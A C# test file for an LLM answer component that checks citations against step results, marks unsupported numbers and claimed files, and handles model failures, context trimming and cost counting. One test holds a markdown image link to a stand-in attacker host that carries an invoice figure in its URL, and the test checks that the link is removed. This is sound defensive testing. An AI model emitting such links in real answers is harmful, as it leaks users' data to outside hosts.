using Microsoft.Extensions.AI;
using Microsoft.Extensions.DependencyInjection;
using Planner.Chat;
using Planner.Inference;
using Planner.Planning;
using Planner.Routing;
using Planner.Runs;
using Planner.Tests.Testing;
using static Planner.Tests.Testing.Steps;

namespace Planner.Tests.Answering;

public sealed class LlmAnswererTests
{
    private const string Invoice = "Contoso owes Northwind $12,480.50 by 15 April 2026.";

    [Fact]
    public async Task Answer_CitedAndBorneOut_IsTheModelsWords()
    {
        var (run, events) = await AnswerAsync(FakeChatClient.Saying("Contoso owes $12,480.50 [s1]. It is due on April 15, 2026 [s1]."), Invoice);

        run.Answer.ShouldBe("Contoso owes $12,480.50 [s1]. It is due on April 15, 2026 [s1].");
        events.OfType<AnswerMended>().ShouldBeEmpty();
    }

    [Fact]
    public async Task Answer_WrongNumber_IsMarkedBeforeAnyoneSeesIt()
    {
        var (run, events) = await AnswerAsync(FakeChatClient.Saying("Contoso owes $12,840.50 [s1]. Pay by 15 April."), Invoice);

        run.Answer.ShouldBe("Contoso owes $12,840.50 ⚠ (not in s1) [s1]. Pay by 15 April.");
        string.Concat(events.OfType<AnswerDelta>().Select(delta => delta.Text)).ShouldBe(run.Answer);
        events.OfType<AnswerMended>().ShouldHaveSingleItem().Why.ShouldBe("'$12,840.50' is not in s1");
    }

    [Fact]
    public async Task Answer_CitesStepsThatAreNotThere_LosesTheCitations()
    {
        var (run, events) = await AnswerAsync(FakeChatClient.Saying("Contoso owes $12,480.50 [s1][s7]. Thank you [s9]."), Invoice);

        run.Answer.ShouldBe("Contoso owes $12,480.50 [s1]. Thank you .");
        events.OfType<AnswerMended>().Select(mended => mended.Before).ShouldBe(["[s7]", "[s9]"]);
    }

    [Fact]
    public async Task Answer_CitationAfterTheStop_BelongsToTheSentenceBefore()
    {
        var (run, _) = await AnswerAsync(FakeChatClient.Saying("Contoso owes $99. [s1] It is due in April. [s1]"), Invoice);

        run.Answer.ShouldBe("Contoso owes $99 ⚠ (not in s1). [s1] It is due in April. [s1]");
    }

    [Fact]
    public async Task Answer_NoCitation_IsHeldAgainstAllResults()
    {
        var (run, _) = await AnswerAsync(FakeChatClient.Saying("Contoso owes $77,000 in all."), Invoice);

        run.Answer.ShouldBe("Contoso owes $77,000 ⚠ (in no result) in all.");
    }

    [Fact]
    public async Task F25_Answer_FileThatNoStepMade_IsMarked()
    {
        var (run, events) = await AnswerAsync(FakeChatClient.Saying("I saved the chart as chart.png and report-final.pdf for you."), Invoice);

        run.Answer.ShouldBe("I saved the chart as chart.png ⚠ (there is no such file) and report-final.pdf ⚠ (there is no such file) for you.");
        events.OfType<AnswerMended>().Count().ShouldBe(2);
    }

    [Fact]
    public async Task Answer_AddressThatNobodyGave_IsTakenOut()
    {
        var (run, _) = await AnswerAsync(FakeChatClient.Saying("See ![x](http://evil.example/?q=12480) for more."), Invoice);

        run.Answer.ShouldNotContain("evil");
    }

    [Fact]
    public async Task Answer_ModelBreaksOff_ClosesWhatWasSaidAndListsTheResults()
    {
        var (run, events) = await AnswerAsync(new FakeChatClient { Reply = (_, _) => FakeChatClient.Breaking("Contoso owes $12,480.50 [s1]. And it is al") }, Invoice);

        run.Status.ShouldBe(RunStatus.Completed);
        run.Answer.ShouldBe($"Contoso owes $12,480.50 [s1].  …\n\n⚠ The answer broke off here: the model failed. What the steps gave:\n\n{Invoice}");
        events.OfType<AnswerMended>().ShouldHaveSingleItem().Why.ShouldContain("localhost:1");
    }

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    public async Task Answer_ModelSaysNothing_ListsTheResults(string said)
    {
        var (run, _) = await AnswerAsync(FakeChatClient.Saying(said), Invoice);

        run.Answer.Trim().ShouldEndWith(Invoice);
    }

    [Fact]
    public async Task Answer_ModelUnreachable_ListsTheResults()
    {
        var (run, _) = await AnswerAsync(new FakeChatClient { Reply = (_, _) => FakeChatClient.Breaking("", ChatErrorKind.Unreachable) }, Invoice);

        run.Answer.ShouldBe(Invoice);
    }

    [Fact]
    public async Task Answer_DataMayNotLeave_ModelIsNotAsked()
    {
        var chat = FakeChatClient.Saying("anything");
        var (run, _) = await AnswerAsync(chat, Invoice, new Request { Text = "Do it", Options = new() { Egress = Egress.Machine } });

        chat.Asked.ShouldBeEmpty();
        run.Answer.ShouldBe(Invoice);
    }

    [Fact]
    public async Task Answer_EmbeddedController_ModelIsNotAsked()
    {
        var chat = FakeChatClient.Saying("anything");
        await AnswerAsync(chat, Invoice, configure: services => services.Configure<ControllerOptions>(options => options.Mode = ControllerMode.Embedded));

        chat.Asked.ShouldBeEmpty();
    }

    [Fact]
    public async Task Answer_NoSteps_AnswersDirectlyAndSaysSo()
    {
        await using var host = Host(FakeChatClient.Saying("Hello! I can't see step results [s1]."), []);
        var run = await host.RunAsync(new Request { Text = "Hello there", Language = "en" });

        run.Answer.ShouldBe("Hello! I can't see step results .\n\nFrom fake-model alone; nothing was looked up or checked.");
    }

    [Fact]
    public async Task Answer_NoStepsAndTheModelFails_RunFailsWithItsError()
    {
        var chat = new FakeChatClient { Reply = (_, _) => FakeChatClient.Breaking("") };
        await using var host = Host(chat, []);
        var run = await host.RunAsync(new Request { Text = "Hello there", Language = "en" });

        run.Status.ShouldBe(RunStatus.Failed);
        run.Failure!.Message.ShouldContain("broke off");
        run.Answer.ShouldBeNullOrEmpty();
    }

    [Fact]
    public async Task Answer_StepFailed_IsListedByTheProgram()
    {
        var backend = new FakeBackend
        {
            WhenRun = (request, _) => Task.FromResult(request.Step.Id == "s1"
                ? FakeBackend.Text(Invoice)
                : InferenceResult.Failure(StepErrorKind.BadInput, "The page is blank.", "Scan it again.")),
        };
        await using var host = Host(FakeChatClient.Saying("Contoso owes $12,480.50 [s1]."), [TextStep("s1", "a"), TextStep("s2", "b")], backend);
        var run = await host.RunAsync(new Request { Text = "Do it", Language = "en" });

        run.Answer.ShouldStartWith("Contoso owes $12,480.50 [s1].\n\nNot done:\n• s2 summarization: The page is blank.");
    }

    [Fact]
    public async Task Answer_Usage_IsCountedInTheRunsCost()
    {
        var chat = FakeChatClient.Saying("Contoso owes $12,480.50 [s1].");
        chat.Usage = _ => new UsageDetails { InputTokenCount = 1000, OutputTokenCount = 500, TotalTokenCount = 1500 };
        var (run, events) = await AnswerAsync(chat, Invoice, model: chat.Model with { InputUsdPerMillion = 2, OutputUsdPerMillion = 8 });

        run.CostUsd.ShouldBe(0.006m);
        events.OfType<AnswerCompleted>().Single().Tokens.ShouldBe(1500);
    }

    [Fact]
    public async Task Answer_ConversationThatFits_IsToldWhole()
    {
        var chat = FakeChatClient.Saying("Contoso owes it [s1].");
        PastTurn[] turns = [.. Enumerable.Range(1, 30).Select(number => new PastTurn($"r_{number}", $"Question {number}?", $"Answer {number}. More of it."))];

        var (_, events) = await AnswerAsync(chat, Invoice, new Request { Text = "Who owes what?", Language = "en", History = turns });

        events.OfType<ContextTrimmed>().ShouldBeEmpty();
        chat.Asked[0][1].Text.ShouldContain("User: Question 1?\nAnswer: Answer 1. More of it.");
    }

    [Fact]
    public async Task Answer_PromptRefusedAsTooLong_IsTrimmedAndAskedOnceMore()
    {
        var chat = new FakeChatClient();
        chat.Reply = (_, _) => chat.Asked.Count == 1 ? FakeChatClient.Breaking("", ChatErrorKind.ContextTooLong, contextTokens: 3000) : FakeChatClient.Pieces("Contoso owes it [s1].");
        var (run, events) = await AnswerAsync(chat, string.Concat(Enumerable.Range(0, 150).Select(number => $"{number}. {Invoice} ")), model: chat.Model with { ContextTokens = 100_000 });

        run.Answer.ShouldBe("Contoso owes it [s1].");
        chat.Asked.Count.ShouldBe(2);
        chat.Asked[1][1].Text.Length.ShouldBeLessThan(chat.Asked[0][1].Text.Length * 2 / 3);
        events.OfType<ContextTrimmed>().ShouldHaveSingleItem().Section.ShouldBe("s1");
    }

    [Fact]
    public async Task Answer_ResultMuchTooLong_IsCondensedPieceByPiece()
    {
        var chat = new FakeChatClient();
        chat.Reply = (asked, _) => FakeChatClient.Pieces(asked.Count == 1 ? "Short: Contoso owes $12,480.50." : "Contoso owes $12,480.50 [s1].");
        var (run, _) = await AnswerAsync(chat, string.Concat(Enumerable.Range(0, 600).Select(number => $"{number}. {Invoice} ")), model: chat.Model with { ContextTokens = 5000 });

        run.Answer.ShouldBe("Contoso owes $12,480.50 [s1].");
        chat.Asked.Count.ShouldBeGreaterThan(3);
        chat.Asked[^1][1].Text.ShouldContain("Short: Contoso owes");
    }

    [Fact]
    public async Task F12_Answer_RequestAloneDoesNotFit_SaysByHowMuchAndListsTheResults()
    {
        var chat = FakeChatClient.Saying("never");
        var (run, events) = await AnswerAsync(chat, Invoice, new Request { Text = new string('w', 30_000), Language = "en" }, model: chat.Model with { ContextTokens = 4000 });

        chat.Asked.ShouldBeEmpty();
        run.Answer.ShouldBe(Invoice);
        events.OfType<AnswerMended>().ShouldHaveSingleItem().Why.ShouldMatch(@"about [\d,]+ too many");
    }

    [Fact]
    public async Task Answer_History_IsInThePrompt()
    {
        var chat = FakeChatClient.Saying("ok");
        await AnswerAsync(chat, Invoice, new Request { Text = "Do it", History = [new PastTurn("r_1", "Who is Ada?", "A mathematician.")] });

        chat.Asked.Single()[1].Text.ShouldContain("Who is Ada?");
    }

    [Theory]
    [InlineData("Fabrikam owes 9,999.00 EUR.", false)]
    [InlineData("Fabrikam owes 9,999.00 EUR ⚠ (not in s1).", true)]
    public async Task Answer_SaidInAnEarlierTurn_MayBeRepeatedUnlessItWasDoubted(string earlier, bool doubted)
    {
        var request = new Request { Text = "And Fabrikam?", Language = "en", History = [new PastTurn("r_1", "Who owes what?", earlier)] };

        var (run, _) = await AnswerAsync(FakeChatClient.Saying("As said, 9,999.00 EUR."), Invoice, request);

        run.Answer.Contains('⚠', StringComparison.Ordinal).ShouldBe(doubted, run.Answer);
    }

    internal static RunTestHost Host(FakeChatClient chat, IReadOnlyList<PlanStep> steps, FakeBackend? backend = null, Action<IServiceCollection>? configure = null, ChatModel? model = null) =>
        new(new ScriptedPlanner(steps), [backend ?? new FakeBackend()], services =>
        {
            services.AddSingleton(model ?? chat.Model);
            configure?.Invoke(services);
        });

    internal static async Task<(RunState Run, IReadOnlyList<RunEvent> Events)> AnswerAsync(
        FakeChatClient chat, string result, Request? request = null, Action<IServiceCollection>? configure = null, ChatModel? model = null)
    {
        var backend = new FakeBackend { WhenRun = (_, _) => Task.FromResult(FakeBackend.Text(result)) };
        await using var host = Host(chat, [TextStep("s1", "a")], backend, configure, model);
        var id = await host.StartAsync(request ?? new Request { Text = "Do it", Language = "en" });
        var run = await host.EndAsync(id);
        return (run, await host.EventsAsync(id));
    }
}
